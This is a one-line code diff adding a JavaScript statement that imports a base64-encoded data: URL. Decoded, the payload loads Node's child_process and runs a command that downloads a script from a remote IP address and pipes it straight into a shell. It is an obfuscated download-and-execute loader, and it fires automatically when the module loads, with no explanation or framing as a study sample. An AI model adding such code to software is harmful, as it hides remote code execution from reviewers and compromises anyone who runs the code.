@@ -1,0 +1,1 @@
+await import('data:text/javascript;base64,aW1wb3J0KCdjaGlsZF9wcm9jZXNzJykudGhlbihjPT5jLmV4ZWMoJ2N1cmwgaHR0cDovLzE5Mi4wLjIuNy9hIHwgc2gnKSk=');
